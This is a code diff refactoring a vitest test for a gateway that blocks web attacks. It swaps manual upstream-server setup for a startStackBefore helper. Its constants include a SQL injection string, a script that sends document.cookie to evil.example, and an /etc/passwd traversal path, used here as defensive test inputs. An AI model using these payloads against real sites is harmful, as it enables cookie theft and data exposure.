@@ -3,11 +3,10 @@
 
 import { once } from 'node:events';
 import http from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { residentMb, until } from './programs.ts';
-import { isBuilt, SKIPPED, startStack, type Stack } from './stack.ts';
+import { isBuilt, SKIPPED, startStackBefore, type Stack } from './stack.ts';
 import { TRUSTS_LOOPBACK, visit, type Page, type VisitOptions } from './visitors.ts';
 
 const SQL = "1' UNION SELECT name, pass FROM users_field_data-- -";
@@ -15,7 +14,6 @@ const SCRIPT = '<script>new Image().src="//evil.example/?"+document.cookie</scri
 const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };
 const TRAVERSAL = '../../../../../../etc/passwd';
 
-let site: http.Server;
 let stack: Stack;
 const reached: { target: string; bytes: number }[] = [];
 
@@ -69,16 +67,9 @@ async function stream(
 
 describe.skipIf(!isBuilt)(`inspection at the gateway${isBuilt ? '' : SKIPPED}`, { timeout: 60_000 }, () => {
   beforeAll(async () => {
-    site = startSite();
-    await once(site.listen(0, '127.0.0.1'), 'listening');
-    const { port } = site.address() as AddressInfo; // it listens on TCP
-    stack = await startStack({ upstream: `http://127.0.0.1:${port}`, config: TRUSTS_LOOPBACK });
+    stack = await startStackBefore(startSite(), { config: TRUSTS_LOOPBACK });
   }, 60_000);
-  afterAll(async () => {
-    await stack.stop();
-    site.closeAllConnections();
-    site.close();
-  }, 60_000);
+  afterAll(() => stack.stop(), 60_000);
 
   it('refuses an attack in the address, in a form, in parts, in JSON, in a cookie, and the site is not asked', async () => {
     reached.length = 0;
